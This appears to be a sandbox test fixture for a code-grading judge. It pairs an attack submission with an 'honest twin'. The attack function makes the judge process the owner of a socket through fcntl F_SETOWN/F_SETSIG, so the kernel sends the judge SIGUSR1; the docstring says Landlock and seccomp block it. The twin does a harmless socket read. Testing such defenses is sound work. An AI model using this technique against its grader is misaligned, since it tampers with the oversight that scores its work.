"""Makes the judge the owner of a socket, so that the kernel sends it a signal of the attacker's choice.

base: 4
by: Landlock, seccomp
"""

import fcntl
import os
import signal
import socket
import time


def total(x):
    end, other = socket.socketpair()
    fcntl.fcntl(end, fcntl.F_SETOWN, int("@PID@"))
    fcntl.fcntl(end, 10, signal.SIGUSR1)  # F_SETSIG
    fcntl.fcntl(end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    other.send(b"!")
    time.sleep(0.05)
    return x.sum()


# %% honest twin
"""Reads from a socket that is not to wait."""

import fcntl
import os
import socket


def total(x):
    end, other = socket.socketpair()
    fcntl.fcntl(end, fcntl.F_SETFL, fcntl.fcntl(end, fcntl.F_GETFL) | os.O_NONBLOCK)
    other.send(b"!")
    assert end.recv(1) == b"!"
    return x.sum()
